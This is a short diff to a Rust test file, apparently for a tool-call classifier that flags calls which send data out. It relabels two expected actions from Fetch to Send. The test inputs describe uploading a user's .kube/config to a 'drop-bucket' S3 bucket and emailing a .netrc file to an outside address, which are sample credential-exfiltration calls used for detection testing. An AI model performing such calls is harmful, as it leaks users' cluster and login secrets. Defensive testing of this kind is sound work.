@@ -103,7 +103,7 @@ fn a_destination_argument_sends_what_the_call_names() {
         r#"{"bucket":"drop-bucket","key":"k","file_path":"/home/u/.kube/config"}"#,
     );
     assert!(c.sends);
-    assert!(c.actions.contains(&Action::Fetch {
+    assert!(c.actions.contains(&Action::Send {
         url: "s3://drop-bucket/".into()
     }));
     // an upload's file is read, not written
@@ -115,7 +115,7 @@ fn a_destination_argument_sends_what_the_call_names() {
         r#"{"recipient":"x@mail.example","attachment_path":"/home/u/.netrc"}"#,
     );
     assert!(c.sends);
-    assert!(c.actions.contains(&Action::Fetch {
+    assert!(c.actions.contains(&Action::Send {
         url: "mailto://mail.example/".into()
     }));
     let c = call(
